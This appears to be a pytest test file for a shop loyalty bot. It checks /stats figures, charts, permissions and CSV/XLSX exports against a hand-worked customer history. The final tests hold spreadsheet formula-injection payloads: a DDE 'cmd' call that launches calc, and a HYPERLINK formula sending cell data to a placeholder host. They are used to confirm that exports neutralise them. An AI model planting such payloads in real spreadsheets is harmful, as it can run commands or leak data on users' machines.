"""The owner's view: every /stats figure against a small history worked out by hand, the
charts, the CSV exports, and who may see what.

The history, in days from T0 (70 days before the report; the 30-day period starts on day 40,
the period before it on day 10), all purchases at 10,00 EUR an item, 1 point an item:
  day 0   Ana and Bruno join; Ana buys 2 items, Bruno 2
  day 15  Ana buys 1, Bruno 3                        (previous period)
  day 20  Bruno buys 1                               (previous period)
  day 44  Ana asks for her referral link
  day 45  Carla joins through Ana's link; Ana buys 8, Carla 1 (first purchase: referral
          bonus, Ana +2 and Carla +1)
  day 50  Dani joins, declining offers
  day 55  Bruno buys 9; the owner voids it
  day 60  NPS: Ana 10, Bruno 5, Carla 8, Dani 9, and one sent to Ana that stays unanswered;
          satisfaction: Ana 5, Carla 3
  day 62  Ana redeems a free bottle (10 points)
  day 70  the report; the churn job has run
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from PIL import Image

from bot.domain import exports
from bot.domain.exports import ExportFile
from bot.domain.insights import Report, net_promoter_score, parse_days
from bot.domain.models import Actor, Customer, Identity, Language, Redemption, Role
from bot.domain.money import Currency
from bot.domain.parsing import InvalidInput
from bot.domain.registration import ConsentAnswer, SkipAnswer, TextAnswer
from bot.domain.rewards import RedemptionView
from bot.domain.sales import SaleVoided
from bot.domain.spreadsheet import Workbook
from bot.program import Program, RelationshipMap, load_program
from tests.conftest import START, FakeClock, RunningBot
from tests.flows import CLERK, buy, invitation, join, survey_sent

T0 = START - timedelta(days=70)
OWNER = Actor(Identity("telegram", "1"), Role.OWNER, "Dueña")


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock(T0)


@pytest.fixture
def program() -> Program:
    # Lines low enough that a 70-day history reaches every quadrant of the map.
    return load_program(None).model_copy(
        update={
            "relationship_map": RelationshipMap(strong_visits_from=3, strong_tenure_days_from=60)
        }
    )


async def _on_day(bot: RunningBot, day: int) -> None:
    bot.clock.advance(T0 + timedelta(days=day) - bot.clock.now())


async def _answer(bot: RunningBot, customer: Customer, kind: str, score: int | None) -> None:
    """A survey sent now, answered (through the domain) unless `score` is None."""
    survey_id = await survey_sent(bot.services.database, bot.clock, customer.id, kind)
    identity = customer.identity
    if score is not None and identity is not None:
        await bot.services.surveys.answer(identity, survey_id, score)


async def _history(bot: RunningBot) -> dict[str, Customer]:
    async def member(
        user_id: int, consent: bool = True, referral_code: str | None = None
    ) -> Customer:
        _, customer = await join(bot, user_id, consent=consent, referral_code=referral_code)
        return customer

    ana, bruno = await member(501), await member(502)
    await buy(bot, ana, 2)
    await buy(bot, bruno, 2)
    await _on_day(bot, 15)
    await buy(bot, ana, 1)
    await buy(bot, bruno, 3)
    await _on_day(bot, 20)
    await buy(bot, bruno, 1)
    await _on_day(bot, 44)
    await bot.services.membership.referral_link(ana)
    await _on_day(bot, 45)
    carla = await member(503, referral_code=ana.referral_code)
    await buy(bot, ana, 8)
    await buy(bot, carla, 1)
    await _on_day(bot, 50)
    dani = await member(504, consent=False)
    await _on_day(bot, 55)
    voided = await bot.services.sales.void(OWNER, (await buy(bot, bruno, 9)).sale.id, "typo")
    assert isinstance(voided, SaleVoided)
    await _on_day(bot, 60)
    for customer, score in ((ana, 10), (bruno, 5), (carla, 8), (dani, 9), (ana, None)):
        await _answer(bot, customer, "nps", score)
    await _answer(bot, ana, "satisfaction", 5)
    await _answer(bot, carla, "satisfaction", 3)
    await _on_day(bot, 62)
    code = await bot.services.rewards.request_reward(ana, "free_bottle")
    assert isinstance(code, Redemption)
    assert isinstance(await bot.services.rewards.confirm(CLERK, code.code), RedemptionView)
    await _on_day(bot, 70)
    # Deciding only: delivering would pace the receipts queued above on the test's clock.
    await bot.services.jobs.decide("churn")
    return {"ana": ana, "bruno": bruno, "carla": carla, "dani": dani}


async def test_every_figure_matches_the_history_worked_out_by_hand(bot: RunningBot) -> None:
    await _history(bot)
    report = await bot.services.insights.report(30)
    now, before = report.current, report.previous

    assert (report.start, report.end) == (START - timedelta(days=30), START)
    # Customers: Carla and Dani are new; Ana, Bruno and Carla bought in the last 90 days.
    assert (report.standing.customers, now.counts.new_customers) == (4, 2)
    assert (now.counts.active_customers, report.standing.reachable) == (3, 4)
    assert report.standing.consenting == 3  # Dani said no
    # Sales: Ana's 80,00 and Carla's 10,00; Bruno's voided 90,00 does not count.
    assert (now.counts.sales, now.counts.revenue_minor, now.counts.buyers) == (2, 9000, 2)
    assert now.average_ticket_minor == 4500
    assert now.visits_per_active == pytest.approx(2 / 3)
    # Before: Ana's 10,00 and Bruno's 30,00 and 10,00.
    assert (before.counts.sales, before.counts.revenue_minor, before.counts.new_customers) == (
        3,
        5000,
        0,
    )
    # Retention: of Ana and Bruno (last period's buyers) only Ana came back.
    assert (now.counts.previous_buyers, now.counts.previous_buyers_kept) == (2, 1)
    assert now.retention == 0.5
    # Repeat purchases: Ana had bought before, Carla had not.
    assert now.repeat_rate == 0.5
    # Points: Ana 8 + Carla 1 + referral 2 + 1, Bruno's 9 earned and taken back; 10 redeemed.
    assert (now.counts.points_earned, now.counts.points_redeemed) == (12, 10)
    assert now.redemption_rate == pytest.approx(10 / 12)
    assert report.standing.outstanding_points == 3 + 6 + 2  # Ana, Bruno, Carla
    # Referrals.
    assert (
        now.counts.links_shared,
        now.counts.friends_joined,
        now.counts.friends_first_purchase,
    ) == (1, 1, 1)
    # NPS: promoters Ana and Dani, passive Carla, detractor Bruno: (2 - 1) / 4 = +25.
    assert (now.counts.promoters, now.counts.passives, now.counts.detractors) == (2, 1, 1)
    assert now.nps == 25
    assert now.nps_response_rate == pytest.approx(4 / 5)
    assert (now.satisfaction_average, now.counts.satisfaction_answers) == (4.0, 2)
    assert (before.nps, before.satisfaction_average) == (None, None)
    assert before.retention == 1.0  # Ana and Bruno bought on day 0, and again in days 10-40
    # Churn: Bruno scored 5 (detractor) and, buying every 10 days, has been away 50 (lapsing).
    assert report.flags == {"detractor": 1, "lapsing": 1}
    # Map: Ana satisfied with 3 visits (apostle), Bruno unhappy with 3 (hostage), Carla
    # unhappy after 1 (terrorist), Dani satisfied without a purchase (mercenary).
    assert report.quadrants == {"apostle": 1, "hostage": 1, "terrorist": 1, "mercenary": 1}
    # Lifetime value: 180,00 over 7 sales by 3 customers in the year, times 3 years.
    lifetime = report.lifetime
    assert (lifetime.average_ticket_minor, lifetime.expected_years) == (2571, Decimal(3))
    assert lifetime.visits_per_year == pytest.approx(7 / 3)
    assert lifetime.value_minor == 17997


async def test_an_empty_shop_has_no_figures_to_divide(bot: RunningBot) -> None:
    report = await bot.services.insights.report()
    assert report.days == 30
    _assert_nothing_to_divide(report)
    trends = await bot.services.insights.trends()
    assert [week.sales for week in trends.weeks] == [0] * 12
    assert [month.answers for month in trends.months] == [0] * 12
    assert trends.months[-1].month == T0.strftime("%Y-%m") and report.quadrants == {}


async def test_nps_months_follow_the_shops_calendar(bot: RunningBot) -> None:
    """Half an hour after midnight on 1 November in Madrid it is still 31 October in UTC: that
    answer belongs to November, as the owner reads the chart; one half an hour before
    midnight belongs to October."""
    _, ana = await join(bot, 80)
    _, bruno = await join(bot, 81)
    madrid = ZoneInfo("Europe/Madrid")
    for moment, customer, score in (
        (datetime(2026, 10, 31, 23, 30, tzinfo=madrid), ana, 10),
        (datetime(2026, 11, 1, 0, 30, tzinfo=madrid), bruno, 3),
    ):
        bot.clock.advance(moment.astimezone(UTC) - bot.clock.now())
        await _answer(bot, customer, "nps", score)
    bot.clock.advance(timedelta(days=20))
    october, november = (await bot.services.insights.trends()).months[-2:]
    assert (october.month, october.answers, october.nps) == ("2026-10", 1, 100)
    assert (november.month, november.answers, november.nps) == ("2026-11", 1, -100)


def _assert_nothing_to_divide(report: Report) -> None:
    figures = report.current
    assert figures.counts.sales == 0
    assert (figures.average_ticket_minor, figures.visits_per_active, figures.retention) == (
        None,
        None,
        None,
    )
    assert (figures.repeat_rate, figures.redemption_rate, figures.nps) == (None, None, None)
    assert (figures.nps_response_rate, figures.satisfaction_average) == (None, None)
    assert report.lifetime.value_minor is None


async def test_stats_in_the_chat_numbers_first_then_charts(bot: RunningBot) -> None:
    await _history(bot)
    owner = bot.api.user(1, "Dueña", "es")
    await owner.send("/stats")
    numbers = await owner.receive("sendMessage")
    for expected in (
        "últimos 30 días",
        "Ventas: 2 (-33%)",
        "facturación: 90,00 EUR (+80%)",
        "Ticket medio: 45,00 EUR",
        "Retención: 50%",
        "tasa de canje: 83%",
        "NPS: <b>+25</b>",
        "2 promotores, 1 pasivo, 1 detractor",
        "Respondieron 80%",
        "Satisfacción media: 4,0 de 5",
        "Insatisfechos: 1 · se están alejando: 1 · perdidos: 0",
        "fans 1 · cazaofertas 1 · atrapados 1 · descontentos 1",
        "<b>179,97 EUR</b> = ticket medio 25,71 EUR × 2,3 visitas al año × 3 años",
    ):
        assert expected in numbers.text, expected
    captions = []
    for _ in range(3):
        photo = await owner.receive("sendPhoto")
        captions.append(photo.text)
        picture = Image.open(io.BytesIO(photo.files["photo"]))
        assert picture.format == "PNG"
        assert 600 <= picture.width <= 1200 and 300 <= picture.height <= 800
        assert len(photo.files["photo"]) < 200_000
    assert captions == [
        "Ventas y clientes por semana",
        "NPS por mes",
        "Mapa satisfacción × relación",
    ]


async def test_an_empty_shop_says_so_instead_of_drawing_empty_charts(bot: RunningBot) -> None:
    owner = bot.api.user(1, "Owner", "en")
    await owner.send("/stats 7")
    numbers = await owner.receive("sendMessage")
    assert "last 7 days" in numbers.text and "NPS: no answers" in numbers.text
    assert "No sales yet to estimate it from." in numbers.text
    for title in ("Sales and customers per week", "NPS per month", "Satisfaction × relationship"):
        assert f"{title}" in (await owner.receive_containing("not enough data yet")).text
    assert bot.api.calls_to("sendPhoto") == []


async def test_staff_see_the_figures_without_money_and_customers_are_refused(
    bot: RunningBot,
) -> None:
    await _history(bot)
    invite = await invitation(bot.services.staff, OWNER)
    await bot.services.staff.accept(Identity("telegram", "50"), invite.token, "Pepe", Language.ES)
    clerk = bot.api.user(50, "Pepe", "es")
    await clerk.send("/stats")
    numbers = await clerk.receive("sendMessage")
    assert "Ventas: 2" in numbers.text and "NPS: <b>+25</b>" in numbers.text
    for money_word in ("facturación", "Ticket medio", "EUR", "Valor de vida", "debe"):
        assert money_word not in numbers.text
    await clerk.send("/export")
    assert "no tienes permiso" in (await clerk.receive("sendMessage")).text.lower()
    customer = bot.api.user(501)
    for command in ("/stats", "/export"):
        await customer.send(command)
        assert "no tienes permiso" in (await customer.receive("sendMessage")).text.lower()
    assert bot.api.calls_to("sendDocument") == []


async def test_export_round_trips_through_the_csv_module(bot: RunningBot) -> None:
    people = await _history(bot)
    owner = bot.api.user(1, "Dueña", "es")
    await owner.send("/export")
    workbook_file = await owner.receive("sendDocument")
    customers_file = await owner.receive("sendDocument")
    ledger_file = await owner.receive("sendDocument")
    assert workbook_file.file_names["document"] == "fidelidad-2026-11-24.xlsx"
    assert customers_file.file_names["document"] == "clientes-2026-11-24.csv"
    assert "4 filas" in customers_file.text and "«;»" in customers_file.text

    customers = _read(customers_file.files["document"])
    assert [row["Código de socio"] for row in customers] == [
        people[name].member_code for name in ("ana", "bruno", "carla", "dani")
    ]
    ana, bruno, carla, dani = customers
    assert (ana["Nombre"], ana["Puntos"], ana["Compras"], ana["Gasto"]) == (
        "Cliente 501",
        "3",
        "3",
        "110,00",
    )
    assert (ana["Nivel"], ana["Mapa"], ana["En riesgo"]) == ("Bronce", "Fans", "")
    assert ana["Alta"] == "2026-09-15T12:00:00+02:00"  # ISO 8601, Madrid summer time
    assert ana["Última compra"] == "2026-10-30T11:00:00+01:00"
    assert (bruno["En riesgo"], bruno["Mapa"], bruno["Puntos"]) == (
        "insatisfecho, se está alejando",
        "Atrapados",
        "6",
    )
    assert (carla["Invitado por"], carla["Mapa"]) == (ana["Código de socio"], "Descontentos")
    assert (dani["Acepta ofertas"], dani["Compras"], dani["Última compra"]) == ("no", "0", "")

    ledger = _read(ledger_file.files["document"])
    assert sum(int(row["Puntos"]) for row in ledger) == 11
    by_reason: dict[str, int] = {}
    for row in ledger:
        by_reason[row["Motivo"]] = by_reason.get(row["Motivo"], 0) + int(row["Puntos"])
    assert by_reason == {"compra": 27, "amigo invitado": 3, "anulación": -9, "premio canjeado": -10}
    assert {row["Premio"] for row in ledger if row["Motivo"] == "premio canjeado"} == {
        "una botella gratis"
    }
    assert all(row["Fecha"].endswith(("+01:00", "+02:00")) for row in ledger)
    async with bot.services.database.reading() as tx:
        audit = await tx.fetch_one("SELECT actor FROM audit_log WHERE action = 'export'")
    assert audit is not None and audit["actor"] == "owner:telegram:1"

    book = openpyxl.load_workbook(io.BytesIO(workbook_file.files["document"]))
    assert book.sheetnames == ["Clientes", "Movimientos"]
    sheet = book["Clientes"]
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["Código de socio", "Nombre", "Teléfono"]
    first = {title: cell for title, cell in zip(header, sheet[2], strict=True)}
    assert first["Código de socio"].data_type == "s" and first["Nombre"].value == "Cliente 501"
    assert first["Alta"].is_date and first["Alta"].value == datetime(2026, 9, 15, 12, 0)
    assert first["Gasto"].value == 110 and "EUR" in first["Gasto"].number_format
    assert first["Puntos"].value == 3 and first["Acepta ofertas"].value == "sí"
    assert book["Movimientos"].max_row == len(ledger) + 1


async def test_a_ledger_too_long_for_a_comfortable_workbook_comes_as_csv_only(
    bot: RunningBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    await _history(bot)
    monkeypatch.setattr(exports, "WORKBOOK_LEDGER_ROWS", 3)
    owner = bot.api.user(1, "Dueña", "es")
    await owner.send("/export")
    workbook = await owner.receive("sendDocument")
    assert "van solo en el archivo CSV que sigue" in workbook.text
    book = openpyxl.load_workbook(io.BytesIO(workbook.files["document"]))
    assert book.sheetnames == ["Clientes"]
    await owner.receive("sendDocument")  # the customers' CSV
    ledger = _read((await owner.receive("sendDocument")).files["document"])
    assert len(ledger) > 3


def test_a_ledger_longer_than_a_sheet_goes_on_over_further_sheets(tmp_path: Path) -> None:
    workbook = Workbook(
        tmp_path / "book.xlsx", Currency("EUR", 2, ","), ZoneInfo("Europe/Madrid"), sheet_rows=3
    )
    workbook.start("Movimientos", ["Nº", "Puntos"], [False, False])
    for number in range(1, 6):
        workbook.append([number, number * 10])
    assert workbook.close() == 3
    book = openpyxl.load_workbook(workbook.path)
    assert book.sheetnames == ["Movimientos", "Movimientos (2)", "Movimientos (3)"]
    rows = [row for sheet in book for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert rows == [(n, n * 10) for n in range(1, 6)]
    assert all(sheet["A1"].value == "Nº" for sheet in book)


def _read(document: bytes) -> list[dict[str, str]]:
    assert document.startswith(b"\xef\xbb\xbf")  # the byte-order mark spreadsheets look for
    return list(csv.DictReader(io.StringIO(document.decode("utf-8-sig")), delimiter=";"))


def test_an_export_too_large_for_a_chat_is_zipped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "LARGEST_UPLOAD", 1000)
    big = tmp_path / "ledger.csv"
    big.write_bytes(b"id;points\n" + b"1;1\n" * 300)
    zipped = exports.zipped_if_large(ExportFile("ledger", big, 300))
    assert zipped.path.suffix == ".zip" and not big.exists()
    with zipfile.ZipFile(zipped.path) as bundle:
        assert bundle.namelist() == ["ledger.csv"]
        assert bundle.read("ledger.csv").startswith(b"id;points\n1;1\n")
    small = tmp_path / "customers.csv"
    small.write_bytes(b"member_code\n")
    assert exports.zipped_if_large(ExportFile("customers", small, 0)).path == small


def test_net_promoter_score_ranges_from_minus_to_plus_100() -> None:
    assert net_promoter_score(0, 0, 0) is None
    assert net_promoter_score(10, 0, 10) == 100
    assert net_promoter_score(0, 10, 10) == -100
    assert net_promoter_score(1, 1, 3) == 0  # one passive
    assert net_promoter_score(2, 1, 3) == 33


def test_period_days() -> None:
    assert (parse_days("90"), parse_days(" 7d "), parse_days("3650")) == (90, 7, 3650)
    for text, problem in (
        ("abc", "period_unreadable"),
        ("-5", "period_unreadable"),
        ("٣", "period_unreadable"),  # an Arabic-Indic digit: isdigit() but not what we mean
        ("0", "period_out_of_range"),
        ("3651", "period_out_of_range"),
    ):
        with pytest.raises(InvalidInput) as refused:
            parse_days(text)
        assert refused.value.problem == problem


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+34600111222", "'+34600111222"),  # a phone: shown with its plus, never summed
        ("@SUM(A1)", "'@SUM(A1)"),
        ("%x|calc", "'%x\\|calc"),  # a pipe would start DDE in old Excel
        ("-5", "-5"),  # a number stays a number
        ("-1.234,50", "-1.234,50"),
        ("Ana-María", "Ana-María"),
        ("", ""),
    ],
)
def test_csv_text_that_a_spreadsheet_would_run_is_shown_instead(typed: str, written: str) -> None:
    assert exports.shown_not_run(typed) == written


async def test_export_cells_a_spreadsheet_would_run_are_written_as_text(bot: RunningBot) -> None:
    formula = '=HYPERLINK("http://x/?"&C2,"Open")'
    identity = Identity("telegram", "520")
    registration = bot.services.registration
    await registration.start(identity, Language.ES, None, None)
    for answer in (TextAnswer(formula), SkipAnswer(), SkipAnswer(), ConsentAnswer(True)):
        await registration.answer(identity, answer)
    member = await bot.services.membership.member(identity)
    assert member is not None and member.name == formula
    owner = bot.api.user(1, "Dueña", "es")
    await owner.send(f"/adjust {member.member_code} +1 +cmd|' /C calc'!A0")
    await owner.receive_containing("Ajuste hecho")
    await owner.send("/export")
    book = openpyxl.load_workbook(
        io.BytesIO((await owner.receive("sendDocument")).files["document"])
    )
    customers = _read((await owner.receive("sendDocument")).files["document"])
    ledger = _read((await owner.receive("sendDocument")).files["document"])
    assert customers[0]["Nombre"] == "'" + formula
    assert ledger[0]["Nota"].startswith("'+cmd") and ledger[0]["Puntos"] == "1"
    name = book["Clientes"]["B2"]
    assert name.value == formula and name.data_type == "s"  # shown as typed, never run
    note = book["Movimientos"]["H2"]
    assert note.value == "+cmd|' /C calc'!A0" and note.data_type == "s"
    assert book["Movimientos"]["G2"].value == "dueño/a"  # the owner, by role: no staff name
